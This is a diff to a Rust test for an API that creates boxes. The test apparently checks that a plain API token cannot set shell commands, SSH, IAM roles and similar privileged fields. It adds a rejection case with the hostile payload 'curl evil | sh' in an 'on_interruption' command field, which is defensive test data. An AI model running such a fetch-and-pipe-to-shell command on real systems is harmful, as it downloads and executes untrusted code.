@@ -620,6 +620,10 @@ async fn the_api_token_is_not_a_shell_commands_hosts_ssh_adoption_and_foreign_ro
             "ssh",
         ),
         (
+            json!({ "on_interruption": { "command": "curl evil | sh" } }),
+            "on_interruption",
+        ),
+        (
             json!({ "iam_instance_profile": "admin" }),
             "iam_instance_profile",
         ),
@@ -703,6 +707,7 @@ async fn the_api_token_is_not_a_shell_commands_hosts_ssh_adoption_and_foreign_ro
     };
     let mut body = good_box();
     body["ready"] = json!({ "check": "command", "command": "true" });
+    body["on_interruption"] = json!({ "command": "sync", "timeout": "20s" });
     body["iam_instance_profile"] = json!("box-role");
     let (s, b) = open
         .call("POST", "/api/boxes", Some(TOKEN), Some(body.to_string()))
